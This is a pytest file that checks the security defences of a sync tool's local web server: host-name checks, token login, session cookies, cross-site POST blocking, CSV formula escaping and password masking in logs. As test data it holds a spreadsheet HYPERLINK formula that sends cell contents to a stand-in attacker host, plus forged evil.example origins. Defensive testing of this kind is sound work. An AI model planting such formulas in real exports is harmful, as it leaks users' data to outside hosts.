"""`mapc serve` against hostile input and misuse: other host names (DNS rebinding),
off-loopback binds, formulas in exports, sessions, cross-site posts, an older schema,
killed runs and secrets in errors. In-process through ASGI on a small state."""

from __future__ import annotations

import csv
import io
import json
import logging
import time
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select, update

from mapc.cli import main
from mapc.runtime.health.records import Where
from mapc.runtime.health.status import ABANDONED, run_history
from mapc.runtime.sync import schema as s
from mapc.runtime.sync.lock import RunLock
from mapc.runtime.sync.runlog import RunLog
from mapc.runtime.sync.state import StateStore
from mapc.serve import app as serve_app
from mapc.serve.app import ServeConfig, StateHolder, create_app
from mapc.serve.auth import Sessions, Token
from tests.serve.asgi import HOST, get, post

TOKEN = "t0ken-for-hardening"
BEARER = {"authorization": f"Bearer {TOKEN}"}
SAME_ORIGIN = {"origin": f"http://{HOST}"}
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def state_path(tmp_path: Path) -> Path:
    path = tmp_path / "state.db"
    state = StateStore(str(path))
    run = state.log.start_run("hubspot_salesforce")
    state.log.record_error(run, "contacts", "salesforce", "1", "BAD_VALUE", FORMULA)
    state.log.record_error(run, "contacts", "salesforce", "2", "BAD_VALUE", "@SUM(1+1)")
    state.log.record_error(run, "deals", "salesforce", "9", "REQUIRED_FIELD_MISSING", "plain")
    state.log.finish_run(run, "completed_with_errors", {})
    state.close()
    return path


def app_for(path: Path, **config: Any) -> Any:
    return create_app(ServeConfig(str(path), "default", Where(), Token(TOKEN), **config))


def login(app: Any, **headers: str) -> str:
    answer = post(app, "/login", f"token={TOKEN}", **headers)
    assert answer.status == 303 and answer.cookies
    return answer.cookies[0].split(";")[0]


def test_a_request_for_another_host_name_is_refused(state_path: Path) -> None:
    app = app_for(state_path)
    assert get(app, "/errors.json", host="evil.example").status == 400
    assert get(app, "/", host="evil.example:8765").status == 400
    assert get(app, "/errors.json").status == 200
    assert get(app, "/", host="localhost:8765").status == 200
    named = app_for(state_path, allowed_hosts=("127.0.0.1", "sync.example.com"))
    assert get(named, "/healthz", host="sync.example.com").status == 200


def test_serve_refuses_a_non_loopback_bind_without_a_token(
    state_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.delenv("MAPC_SERVE_TOKEN", raising=False)
    assert main(["serve", "--state", str(state_path), "--host", "0.0.0.0"]) == 2
    err = capsys.readouterr().err
    assert "refusing to listen on 0.0.0.0 without $MAPC_SERVE_TOKEN" in err
    assert len(err.strip().splitlines()) == 1


def test_off_loopback_the_page_needs_the_token(
    state_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    started: dict[str, Any] = {}
    made: list[ServeConfig] = []
    monkeypatch.setenv("MAPC_SERVE_TOKEN", TOKEN)
    monkeypatch.setattr("uvicorn.run", lambda app, **kw: started.update(app=app, **kw))
    real = serve_app.create_app
    monkeypatch.setattr(serve_app, "create_app", lambda c, **kw: made.append(c) or real(c, **kw))
    args = ["serve", "--state", str(state_path), "--host", "10.0.0.5"]
    assert main([*args, "--allowed-host", "sync.example.com"]) == 0
    assert started["host"] == "10.0.0.5"
    [config] = made
    assert config.private and {"10.0.0.5", "sync.example.com"} <= set(config.allowed_hosts)
    app = started["app"]
    for path in ("/", "/errors.json", "/errors.csv", "/metrics"):
        answer = get(app, path)
        assert answer.status == 401, path
        assert b"BAD_VALUE" not in answer.body and b"state.db" not in answer.body
    assert 'action="/login"' in get(app, "/").text
    assert get(app, "/healthz").status == 200  # probes need no token
    assert get(app, "/errors.json", **BEARER).status == 200
    assert "BAD_VALUE" in get(app, "/", cookie=login(app, **SAME_ORIGIN)).text
    # On loopback the page stays open unless asked.
    made.clear()
    assert main(["serve", "--state", str(state_path), "--private"]) == 0
    assert made[0].private
    capsys.readouterr()


def test_csv_cells_never_start_a_formula(state_path: Path) -> None:
    answer = get(app_for(state_path), "/errors.csv")
    assert answer.status == 200
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    messages = {r["record_id"]: r["message"] for r in rows}
    assert messages["1"] == "'" + FORMULA
    assert messages["2"] == "'@SUM(1+1)"
    assert messages["9"] == "plain"
    # JSON is data, not a spreadsheet: left as it is.
    assert FORMULA in {
        r["message"] for r in json.loads(get(app_for(state_path), "/errors.json").body)
    }


def test_the_command_line_export_escapes_formulas_as_the_page_does(
    state_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["errors", "--state", str(state_path), "--format", "csv"]) == 0
    from_cli = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    from_page = list(csv.DictReader(io.StringIO(get(app_for(state_path), "/errors.csv").text)))
    assert {r["record_id"]: r["message"] for r in from_cli}["2"] == "'@SUM(1+1)"
    assert [list(r) for r in from_cli] == [list(r) for r in from_page]  # the same columns


def test_an_unknown_action_is_404_and_changes_nothing(state_path: Path) -> None:
    app = app_for(state_path)
    form = "object=contacts&side=salesforce&record_id=1"
    assert post(app, "/errors/delete", form, **BEARER).status == 404
    assert post(app, "/errors/Ignore", form, **BEARER).status == 404
    assert len(StateStore(str(state_path), create=False).log.errors()) == 3


def test_an_older_schema_is_reported_and_left_as_it_is(state_path: Path) -> None:
    state = StateStore(str(state_path), create=False)
    with state.engine.begin() as conn:
        conn.execute(update(s.meta).where(s.meta.c.key == "schema_version").values(value="3"))
    app = app_for(state_path)
    answer = get(app, "/healthz")
    assert answer.status == 503
    reason = json.loads(answer.body)["reason"]
    assert "schema version 3, older than this mapc's" in reason
    page = get(app, "/")
    assert page.status == 503 and "older than this mapc" in page.text
    with state.engine.connect() as conn:
        assert s.current_version(conn) == 3  # an older runner can still open it


def test_sessions_are_random_expire_and_end_at_logout(state_path: Path) -> None:
    app = app_for(state_path)
    answer = post(app, "/login", f"token={TOKEN}", **SAME_ORIGIN)
    cookie = answer.cookies[0]
    flags = cookie.lower()
    assert TOKEN not in cookie and "httponly" in flags and "samesite=strict" in flags
    assert "max-age=" in flags and "secure" not in flags
    first = cookie.split(";")[0]
    assert first != login(app, **SAME_ORIGIN)  # a new nonce each time
    https = post(app, "/login", f"token={TOKEN}", scheme="https", **SAME_ORIGIN).cookies[0]
    assert "secure" in https.lower()

    form = "object=contacts&side=salesforce&record_id=1"
    assert post(app, "/errors/retry", form, cookie=first, **SAME_ORIGIN).status == 303
    assert post(app, "/logout", cookie=first, **SAME_ORIGIN).status == 303
    assert post(app, "/errors/retry", form, cookie=first, **SAME_ORIGIN).status == 401
    assert 'action="/login"' in get(app, "/", cookie=first).text

    now = [0.0]
    sessions = Sessions(max_age=60, clock=lambda: now[0])
    nonce = sessions.open()
    assert sessions.valid(nonce) and not sessions.valid(nonce + "x")
    now[0] = 61
    assert not sessions.valid(nonce)


def test_a_cookie_post_must_come_from_the_page(state_path: Path) -> None:
    app = app_for(state_path)
    cookie = login(app, **SAME_ORIGIN)
    form = "object=contacts&side=salesforce&record_id=1"
    assert post(app, "/errors/ignore", form, cookie=cookie).status == 403  # no Origin/Referer
    assert post(app, "/errors/ignore", form, cookie=cookie, origin="null").status == 403
    foreign = {"cookie": cookie, "referer": "https://evil.example/x"}
    assert post(app, "/errors/ignore", form, **foreign).status == 403
    assert post(app, "/logout", cookie=cookie, origin="https://evil.example").status == 403
    assert len(StateStore(str(state_path), create=False).log.errors()) == 3
    page = {"cookie": cookie, "referer": f"http://{HOST}/?category=picklist"}
    answer = post(app, "/errors/ignore", form, **page)
    assert answer.status == 303 and "n=1" in (answer.header("location") or "")
    assert post(app, "/errors/retry", form, **BEARER).status == 303  # scripts: the bearer


def test_a_record_action_reads_only_that_records_errors(
    state_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def every_error(*args: Any, **kwargs: Any) -> Any:
        raise AssertionError("a record's action read every error")

    monkeypatch.setattr(RunLog, "errors", every_error)
    app = app_for(state_path)
    answer = post(app, "/errors/ignore", "object=contacts&side=salesforce&record_id=2", **BEARER)
    assert answer.status == 303 and "n=1" in (answer.header("location") or "")
    monkeypatch.undo()
    state = StateStore(str(state_path), create=False)
    assert {e.record_id for e in state.log.errors()} == {"1", "9"}


def _killed_run(path: Path) -> int:
    """A run whose process died: its row still `running`, its lock left behind, silent."""
    state = StateStore(str(path), create=False)
    run = state.log.start_run("hubspot_salesforce")
    gone = json.dumps({"host": "elsewhere", "pid": 1, "beat": time.time() - 3600})
    with state.engine.begin() as conn:
        conn.execute(s.meta.insert().values(key="lock:default", value=gone))
    return run


def test_taking_over_a_killed_runs_lock_fails_its_run(state_path: Path) -> None:
    run = _killed_run(state_path)
    state = StateStore(str(state_path), create=False)
    lock = RunLock(state)
    lock.acquire()
    lock.release()
    with state.engine.connect() as conn:
        row = conn.execute(select(s.runs).where(s.runs.c.id == run)).one()
    assert row.status == "failed" and row.ended_at is not None


def test_a_killed_run_shows_and_counts_as_failed(state_path: Path) -> None:
    app = app_for(state_path)
    run = _killed_run(state_path)
    state = StateStore(str(state_path), create=False)
    assert run_history(state)[0].outcome == ABANDONED
    assert f'data-run="{run}"' in get(app, "/").text and ABANDONED in get(app, "/").text
    metrics = get(app, "/metrics").text
    assert 'mapc_runs_total{outcome="failed"} 1.0' in metrics
    # Read-only: the page and /metrics leave the row for the next run to close.
    with state.engine.connect() as conn:
        assert conn.execute(select(s.runs.c.status).where(s.runs.c.id == run)).scalar() == (
            "running"
        )
    # While a run holds the lock, its row is running (and not counted).
    live = json.dumps({"host": "elsewhere", "pid": 1, "beat": time.time()})
    with state.engine.begin() as conn:
        conn.execute(update(s.meta).where(s.meta.c.key == "lock:default").values(value=live))
    assert run_history(state)[0].outcome == "running"


class _Broken(StateHolder):
    def get(self) -> StateStore:
        raise RuntimeError(
            'connection to "postgresql://mapc:hunter2@db.internal/state" failed: '
            "password=hunter2 rejected"
        )


def test_a_drivers_error_is_logged_without_its_password(
    state_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    config = ServeConfig(str(state_path), "default", Where(), Token(TOKEN))
    app = create_app(config, holder=_Broken(str(state_path), "default"))
    with caplog.at_level(logging.WARNING, logger="mapc.serve"):
        answer = get(app, "/")
    assert answer.status == 503 and "hunter2" not in answer.text
    logged = "\n".join(r.getMessage() for r in caplog.records)
    assert "RuntimeError" in logged and "postgresql://mapc:***@db.internal/state" in logged
    assert "hunter2" not in logged
